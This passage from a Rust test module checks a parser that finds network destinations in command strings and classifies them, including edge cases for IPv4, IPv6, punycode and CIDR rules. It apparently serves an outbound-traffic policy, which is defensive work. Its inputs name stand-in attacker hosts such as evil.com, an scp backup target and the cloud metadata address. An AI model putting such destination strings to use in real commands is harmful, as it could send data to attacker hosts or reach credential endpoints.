    fn the_word_before_a_scheme_is_judged_alone() {
        assert_eq!(
            hosts("evil.com:http://x.example/"),
            ["evil.com", "x.example"]
        );
        let d = found("ops@evil.com:http://x.example/");
        let got: Vec<(&str, Kind)> = d.iter().map(|d| (d.host.as_str(), d.kind)).collect();
        assert_eq!(got, [("evil.com", Kind::Email), ("x.example", Kind::Url)]);
        assert_eq!(
            hosts("10.0.0.1.http://x.example/"),
            ["10.0.0.1", "x.example"]
        );
        assert_eq!(
            hosts("evil.com\u{3002}http://x.example/"),
            ["evil.com", "x.example"]
        );
        assert_eq!(one("1://evil.com/").kind, Kind::Host);
        assert!(found("://evil.example/").is_empty());
    }

    /// After a bracketed host the scan goes on right after the `]`; a bracketed name that is no
    /// address is reported as written, an empty one is nothing.
    #[test]
    fn bracketed_url_hosts() {
        assert_eq!(hosts("http://[::1]/ then evil.com"), ["::1", "evil.com"]);
        assert_eq!(hosts("http://[evil.example]/"), ["evil.example"]);
        assert!(found("http://[]/").is_empty());
    }

    /// `-` and `_` delimit addresses inside a longer dotted word.
    #[test]
    fn an_address_glued_to_a_file_name_is_found() {
        assert_eq!(hosts("scp 10.0.0.1_backup.tar"), ["10.0.0.1"]);
        assert_eq!(hosts("10.0.0.1-backup.tar"), ["10.0.0.1"]);
        // A part that is a number but not four of them is no address.
        assert!(found("docker save python-3.11-slim.tar.gz").is_empty());
    }

    /// Candidates are split on `:` and `+`, the delimiters themselves are in neither part.
    #[test]
    fn colons_and_plus_signs_split_candidates() {
        assert_eq!(hosts("mirror:evil.com:443"), ["evil.com"]);
        assert_eq!(hosts("q=see+evil.com"), ["evil.com"]);
    }

    /// Names DNS cannot carry (a label over 63 bytes, a name over 253) are not destinations,
    /// even when a policy list would name them.
    #[test]
    fn overlong_names_are_not_destinations() {
        let long = "a".repeat(64);
        for s in [
            format!("{long}.example"),
            format!("example.{long}"),
            format!("x.{long}.example:443"),
        ] {
            assert_eq!(found_known(&s), Vec::<String>::new(), "{s}");
        }
        assert!(found(&format!("{long}.com")).is_empty());
        let label = "a".repeat(63);
        let name = |last: usize| format!("{label}.{label}.{label}.{}", "a".repeat(last));
        assert_eq!(name(61).len(), 253);
        assert_eq!(found_known(&name(61)), [name(61)]);
        assert_eq!(found_known(&name(62)), Vec::<String>::new());
        assert_eq!(
            found_known(&format!("{label}.example")),
            [format!("{label}.example")]
        );
        // Each label is limited, not the name up to it.
        let host = "a-very-long-subdomain-name-for-testing.another-long-label.example.com";
        assert_eq!(hosts(host), [host]);
        assert_eq!(one("build_01.example.com").host, "build_01.example.com");
        assert_eq!(one("example.website").host, "example.website");
    }

    /// Far into a long string a host is still found (lengths are measured, not offsets).
    #[test]
    fn hosts_far_into_a_string_are_found() {
        let pad = " ".repeat(1200);
        assert_eq!(hosts(&format!("{pad}evil.com:443")), ["evil.com"]);
        assert_eq!(hosts(&format!("{pad}bücher.de")), ["xn--bcher-kva.de"]);
        assert_eq!(hosts(&format!("{pad}a+evil.com")), ["evil.com"]);
    }

    /// A Unicode name of more than 253 bytes can still be a valid host in its ASCII form.
    #[test]
    fn a_long_unicode_name_is_judged_in_its_ascii_form() {
        let labels = vec!["д".repeat(20); 7];
        let s = format!("{}.com", labels.join("."));
        assert!(s.len() > 257, "{}", s.len());
        let ascii = format!("{}.com", ["xn--d1aaaaaaaaaaaaaaaaaaaa"; 7].join("."));
        assert_eq!(hosts(&s), [ascii.as_str()]);
        assert_eq!(
            hosts(&format!("http://{}/", &s[..s.len() - 4])),
            [&ascii[..ascii.len() - 4]]
        );
    }

    /// The longest textual IPv6 address (45 characters) is one address.
    #[test]
    fn the_longest_ipv6_spelling_is_an_address() {
        let s = "0000:0000:0000:0000:0000:ffff:169.254.169.254";
        assert_eq!(s.len(), 45);
        let d = one(s);
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("::ffff:169.254.169.254", Kind::Ip, Class::Metadata)
        );
    }

    /// A pre-release version is not an e-mail domain: the last label of one is letters.
    #[test]
    fn package_versions_are_not_email_domains() {
        assert!(found("npm i react@18.3.0-canary1").is_empty());
        assert!(found("pip install pkg@1.2.x3").is_empty());
    }

    /// A dotted name called as a function, or a path component, is code, not a host.
    #[test]
    fn calls_and_path_components_are_not_hosts() {
        assert!(found("user.info(x)").is_empty());
        assert_eq!(hosts("user.info (x)"), ["user.info"]);
        assert!(found("abc/e/evil.io").is_empty());
        assert_eq!(hosts("abc//evil.io"), ["evil.io"]);
    }

    #[test]
    fn to_ascii_host_limits_and_characters() {
        assert_eq!(to_ascii_host(&"a".repeat(63)), Some("a".repeat(63)));
        assert_eq!(to_ascii_host("A-b_C.de"), Some("a-b_c.de".to_owned()));
        assert_eq!(
            to_ascii_host("bücher-shop.de"),
            Some("xn--bcher-shop-9db.de".to_owned())
        );
        // Sixty characters, but more than 63 in punycode.
        assert_eq!(to_ascii_host(&"ü".repeat(60)), None);
        let label = "a".repeat(63);
        assert_eq!(
            to_ascii_host(&format!("{label}.{label}.{label}.{label}")),
            None
        );
    }

    /// Vectors that reach every branch of the encoder: the digit `0` (26), and bias
    /// adaptations at and around the thresholds. Checked against Python's `punycode` codec.
    #[test]
    fn punycode_edge_vectors() {
        for (u, p) in [
            ("испытание", "80akhbyknj4f"),
            ("日本語ドメイン", "eckwd4c7c5976acvb2w6i"),
            ("是这边", "0ivq83gzc"),
            ("中的你", "fiq02a327f"),
            ("你中到", "fiqz2a05d"),
            ("道了大", "ykqy2xuw8b"),
            ("éö", "9ca0a"),
        ] {
            let chars: Vec<char> = u.chars().collect();
            let mut out = String::new();
            punycode(&chars, &mut out).unwrap();
            assert_eq!(out, p, "{u}");
        }
    }

    /// WHATWG IPv4 numbers: an octal part has only octal digits, every part but the last is
    /// at most 255; a spelling that fails is no address (in a URL it is reported as written).
    #[test]
    fn invalid_ipv4_spellings_are_no_addresses() {
        for s in ["019.0.0.1", "1.256.1.1", "1.2.256.1"] {
            assert!(found(s).is_empty(), "{s}: {:?}", found(s));
            let d = one(&format!("http://{s}/"));
            assert_eq!((d.host.as_str(), d.ip), (s, None), "{s}");
        }
        assert_eq!(one("http://017.0.0.1/").host, "15.0.0.1");
        assert_eq!(one("http://1.255.65535/").host, "1.255.255.255");
    }

    /// IPv6 ranges at their edges: link-local `fe80::/10`, site-local `fec0::/10`,
    /// unique-local `fc00::/7`.
    #[test]
    fn ipv6_private_ranges_at_their_edges() {
        let c = |s: &str| classify_ip(s.parse().unwrap());
        for s in [
            "fc00::1",
            "fd12::1",
            "fdff:ffff::1",
            "fe80::1",
            "febf::1",
            "fec0::1",
            "feff::1",
        ] {
            assert_eq!(c(s), Class::Private, "{s}");
        }
        for s in ["fbff::1", "fe00::1", "fe7f::1", "fe00:ffff::1"] {
            assert_eq!(c(s), Class::Public, "{s}");
        }
    }

    /// A CIDR prefix is one to three digits.
    #[test]
    fn cidr_prefixes_are_short_numbers() {
        let err = |e: &str| DomainList::new(&[e.to_owned()]).unwrap_err();
        assert_eq!(
            err("10.0.0.0/0008"),
            "`10.0.0.0/0008`: bad CIDR prefix `/0008` (expected a number of bits, 0 to 32)"
        );
        assert_eq!(
            err("10.0.0.0/"),
            "`10.0.0.0/`: bad CIDR prefix `/` (expected a number of bits, 0 to 32)"
        );
        let l = list(&["10.0.0.0/31"]);
        assert!(l.matches(&one("10.0.0.1")));
        assert!(!l.matches(&one("10.0.0.2")));
    }
}
